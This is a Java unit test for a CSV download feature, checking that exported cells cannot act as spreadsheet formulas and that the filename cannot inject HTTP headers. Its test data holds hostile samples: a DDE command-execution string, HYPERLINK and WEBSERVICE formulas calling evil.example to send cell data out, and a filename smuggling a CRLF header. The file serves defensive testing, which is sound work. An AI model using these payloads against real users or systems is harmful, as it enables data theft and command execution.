package ajar.site.downloads;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class SheetTest {

    private static final int CELLS = 10_000;

    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", " =", "\u00A0=", "\u200B=",
            "\uFEFF+", "\u202E@", "\u3000-", "\t=", "\r\n=", "\u0000=", "|", "%", "\u2212", "\uFE63", "\uFE62",
            "\uFE66", "\uFE6B", "\"=", "'=", ",=", ";=", "=\"");

    private static final List<String> RESTS = List.of(
            "cmd|'/C calc'!A0",
            "HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "1+1",
            "SUM(A1:A9)",
            "2",
            "A1",
            "\"\"",
            ",=1+1",
            "\r\n=1+1",
            "\";=1+1;\"",
            "WEBSERVICE(\"https://evil.example\")",
            "-1",
            "",
            " ",
            "äöü");

    /** As a careful spreadsheet reads: what is not seen is passed over, wide signs count as narrow ones. */
    private static boolean isActive(String cell) {
        var seen = Normalizer.normalize(cell, Normalizer.Form.NFKC)
                .replace('\u2212', '-')
                .replaceFirst("^[\\s\\p{Z}\\p{C}]+", "");
        boolean number = cell.matches("-?\\d+([.,]\\d+)?");
        return !number && (seen.matches("(?s)[=+\\-@|%].*") || cell.matches("(?s)[\\t\\r\\n].*"));
    }

    private static List<String> cells() {
        var random = new Random(20261126);
        var cells = new ArrayList<String>();
        for (int i = 0; i < CELLS; i++) {
            var start = STARTS.get(random.nextInt(STARTS.size()));
            cells.add(start + RESTS.get(random.nextInt(RESTS.size())) + RESTS.get(random.nextInt(RESTS.size())));
        }
        return cells;
    }

    private static List<String> readBack(List<String> cells) {
        var rows = cells.stream().map(cell -> List.of("Ada", cell, "1")).toList();
        var written = new String(new Sheet("doors", List.of("who", "=what", "chairs"), rows).bytes(), UTF_8);
        assertThat(written).startsWith("\uFEFF\"who\",\"'=what\",\"chairs\"\r\n");
        var back = new ArrayList<String>();
        CsvReader.builder().ofCsvRecord(written.substring(1)).forEach(record -> {
            assertThat(record.getFieldCount()).as(record.toString()).isEqualTo(3);
            back.add(record.getField(1));
        });
        return back.subList(1, back.size());
    }

    @Test
    void leavesNoFormulaActive() {
        var cells = cells();
        var back = readBack(cells);
        assertThat(back).hasSize(CELLS).noneMatch(SheetTest::isActive);
        for (int i = 0; i < CELLS; i++) {
            assertThat(back.get(i)).endsWith(cells.get(i));
        }
    }

    /** The control: as they were typed, nearly all of them are formulas. */
    @Test
    void wouldLeaveThousandsActive() {
        assertThat(cells().stream().filter(SheetTest::isActive)).hasSizeGreaterThan(CELLS * 7 / 10);
    }

    @Test
    void leavesTextAndNumbersAsTheyAre() {
        var plain = List.of("Ada Okafor", "7b+8b", "-3", "-3,5", "12.25", "3rd - 4th", "", "O'Neil", "a=b", "5 %");
        assertThat(readBack(plain)).isEqualTo(plain);
    }

    @Test
    void isKeptAsAFileByItsName() {
        var answer = new Sheet("Türen \"=1\"\r\nX-Evil: 1", List.of("a"), List.of()).download();
        assertThat(answer.getHeaders().getContentDisposition().isAttachment()).isTrue();
        assertThat(String.valueOf(answer.getHeaders().getFirst("Content-Disposition")))
                .doesNotContain("\r", "\n")
                .contains("filename*=UTF-8''T%C3%BCren");
        assertThat(answer.getHeaders().getFirst("Content-Type")).startsWith("text/csv");
    }
}
